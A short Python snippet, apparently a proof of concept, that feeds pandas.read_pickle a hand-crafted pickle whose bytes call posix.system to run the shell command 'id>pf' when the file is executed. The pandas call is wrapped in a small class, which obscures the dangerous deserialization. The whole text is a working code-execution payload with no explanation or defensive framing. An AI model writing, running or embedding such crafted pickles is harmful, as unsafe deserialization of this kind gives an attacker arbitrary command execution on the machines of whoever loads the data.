import pandas as pd, io
class H:
    def __init__(self, lib):
        self.lib = lib
    def go(self):
        return self.lib.read_pickle(io.BytesIO(b"cposix\nsystem\n(S'id>pf'\ntR."))
H(pd).go()
